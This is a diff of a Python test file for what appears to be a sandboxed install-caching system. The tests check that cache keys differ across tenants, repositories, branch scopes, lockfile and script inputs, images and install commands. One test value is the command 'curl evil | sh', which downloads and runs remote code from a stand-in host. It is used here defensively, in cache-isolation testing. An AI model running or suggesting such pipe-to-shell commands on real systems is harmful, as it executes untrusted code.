@@ -12,6 +12,7 @@ from __future__ import annotations
 import io
 import tarfile
 from collections.abc import AsyncIterator, Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -147,22 +148,30 @@ async def test_a_link_out_of_workspace_lands_nothing_outside_it_in_a_later_box(
     assert seen.stdout_text.split() == ["kept", "/tmp/planted", "../../tmp", "0"], seen.stderr_text
 
 
-def test_another_repository_or_tenant_never_gets_the_cache() -> None:
+def test_another_repository_tenant_scope_or_install_input_never_gets_the_cache() -> None:
     parts = InstallKeyParts(
-        tenant="acme", repo="https://git.example/acme/app.git", base="main", image="process:host",
-        commands=["npm ci"], env={}, cache=["node_modules"], keys={"package-lock.json": "a1"},
+        tenant="acme", repo="https://git.example/acme/app.git", image="process:host",
+        commands=["npm ci"], env={}, cache=["node_modules"],
+        inputs={"package-lock.json": "a1", "install.sh": "c3"},
     )  # fmt: skip
-    key = install_key(parts)
-    others = [
-        InstallKeyParts(**{**parts.__dict__, "tenant": "globex"}),
-        InstallKeyParts(**{**parts.__dict__, "base": "attacker-feature"}),
-        InstallKeyParts(**{**parts.__dict__, "repo": "https://git.example/acme/app2.git"}),
-        InstallKeyParts(**{**parts.__dict__, "keys": {"package-lock.json": "b2"}}),
-        InstallKeyParts(**{**parts.__dict__, "image": "docker:golem/devbox:latest"}),
-        InstallKeyParts(**{**parts.__dict__, "commands": ["npm ci", "curl evil | sh"]}),
+    scope = "branch refs/remotes/origin/main"
+    key = install_key(parts, scope)
+    changes: list[dict[str, object]] = [
+        {"tenant": "globex"},
+        {"repo": "https://git.example/acme/app2.git"},
+        {"inputs": {"package-lock.json": "b2", "install.sh": "c3"}},
+        {"inputs": {"package-lock.json": "a1", "install.sh": "d4"}},
+        {"inputs": {"package-lock.json": "a1"}},
+        {"image": "docker:golem/devbox:latest"},
+        {"commands": ["npm ci", "curl evil | sh"]},
     ]
-    assert len({key, *(install_key(other) for other in others)}) == 1 + len(others)
-    assert install_key(InstallKeyParts(**parts.__dict__)) == key
+    others = [install_key(replace(parts, **change), scope) for change in changes]
+    others += [
+        install_key(parts, "branch refs/remotes/origin/attacker-feature"),
+        install_key(parts, f"commit {'a' * 40}"),
+    ]
+    assert len({key, *others}) == 1 + len(others)
+    assert install_key(replace(parts), scope) == key
 
 
 # Whole runs ------------------------------------------------------------------------------
@@ -291,7 +300,7 @@ async def test_an_install_after_the_agent_changed_the_checkout_is_refused(
         ("escalate", "success"),
     ]
     assert state.error is not None
-    assert "runs on the base commit only" in state.error
+    assert "runs on the checkout as fetched only" in state.error
     assert state.prepared == []
     assert not (config.state_dir / "cache" / "dependencies").exists()
     assert not any("evil" in path for path in registries.requests)
